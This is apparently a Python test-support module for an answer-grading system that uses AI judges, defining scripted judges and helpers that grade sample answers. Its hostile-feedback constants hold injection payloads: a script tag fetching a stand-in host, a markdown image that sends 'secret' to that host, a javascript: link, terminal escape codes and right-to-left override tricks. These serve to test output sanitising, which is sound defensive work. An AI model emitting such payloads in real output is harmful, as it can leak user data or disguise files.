"""Judges for the tests of what is shown: they read the chat as a real judge does and answer by a rule."""

import json
from collections.abc import Callable, Mapping, Sequence
from typing import Any

from grader.encoders.protocol import Encoder
from grader.files.answer_files.answers import read_answers
from grader.grading.grader import Grader
from grader.judges.judge_weight import UNPROVEN_WEIGHT, JudgeWeight
from grader.judges.mock import ScriptedJudge, read_prompt
from grader.judges.panel import Panel
from grader.judges.protocol import Completion, Judge, Message
from grader.judges.reply import RawVerdict
from grader.provider.errors import RequestError
from grader.rubrics.rubric_files import read_rubrics
from grader.schema import Answer, Grade
from grader.settings import JudgeSettings, Settings
from grader.text.normalisation import segments
from tests.conftest import ROOT

FEEDBACK = {
    "right": "You say rightly what happens to the units while the network learns.",
    "missing": "You leave out what happens afterwards, when it is used.",
    "study": "Read how a network behaves once training is over.",
}
HOSTILE_FEEDBACK = {
    "right": "<script>fetch('http://host.invalid/')</script> Well said. Missed: all | of it",
    "missing": "![x](http://host.invalid/?q=secret) [more](javascript:alert(1)) <img src=http://host.invalid/x.png>",
    "study": "\x1b[31mred\x1b[0m \x1b]0;title\x07 read \u202etxt.exe\u202c =HYPERLINK(1)",
}
HOSTILE_REASON = "<b onclick=x>because</b> ![x](http://host.invalid/?q=reason) \x1b[2J\u202egnp\u202c"


class RuleJudge:
    """A judge that answers by a rule: from the answer's sentences and the number of a point in the prompt."""

    revision = "1"

    def __init__(
        self,
        name: str,
        rule: Callable[[Sequence[str], int], RawVerdict],
        feedback: Mapping[str, str] = FEEDBACK,
    ) -> None:
        self.name = name
        self._rule = rule
        self._feedback = dict(feedback)

    def complete(self, messages: Sequence[Message], *, schema: Mapping[str, Any], max_tokens: int) -> Completion:
        answer, material = read_prompt(messages)
        said = [answer[start:end] for start, end in segments(answer)]
        verdicts = [{"id": p["id"], **self._rule(said, n)._asdict()} for n, p in enumerate(material["points"])]
        return Completion(json.dumps({"verdicts": verdicts, "feedback": self._feedback}), 0, 0)


def _kind(said: Sequence[str], number: int) -> RawVerdict:
    return RawVerdict("covered", said[number % len(said)], "These words show it.")


def _strict(said: Sequence[str], number: int) -> RawVerdict:
    if number % 3 == 0:
        return RawVerdict("partial", "words that nobody wrote", "It is there in part.")
    if number % 3 == 1:
        return RawVerdict("contradicted", said[-1], "The last sentence says the opposite.")
    return RawVerdict("cannot_tell", "", "It may mean either.")


def _hostile(said: Sequence[str], number: int) -> RawVerdict:
    return RawVerdict("missing", "", HOSTILE_REASON)


KIND = RuleJudge("kind", _kind)
STRICT = RuleJudge("strict", _strict)
SPARING = RuleJudge("sparing", lambda said, number: RawVerdict("missing", "", "Nothing shows it."))
PROVEN = JudgeWeight(1.0, everywhere=True, name="proven.1.00")  # prose is shown of such judges alone
HOSTILE = RuleJudge("<i>hostile</i>\u202e\x1b[1m", _hostile, HOSTILE_FEEDBACK)


def refusing() -> ScriptedJudge:
    """A judge that refuses all it is asked."""
    return ScriptedJudge([RequestError("refused", "the model refused to judge this answer")] * 1000, name="refusing")


def judged_grades(
    *judges: Judge,
    questions: Sequence[str],
    n: int = 1,
    encoder: Encoder | None = None,
    weight: JudgeWeight = UNPROVEN_WEIGHT,
) -> list[Grade]:
    """The first sample answers to some of the packaged questions, graded with judges (and quickly: no verifier)."""
    rubrics = {name: rubric for name, rubric in read_rubrics(ROOT / "rubrics").items() if name in questions}
    panel = Panel(judges, settings=JudgeSettings(when="all"))
    grader = Grader(rubrics, panel=panel, encoder=encoder, settings=Settings(verifier=False), weight=weight)
    return list(grader.grade_many(sample_answers(questions, n)))


def sample_answers(questions: Sequence[str], n: int) -> list[Answer]:
    """The first `n` sample answers to each of these questions."""
    answers = list(read_answers(ROOT / "data" / "practice_answers.jsonl"))
    return [a for name in questions for a in [a for a in answers if a.question_id == name][:n]]
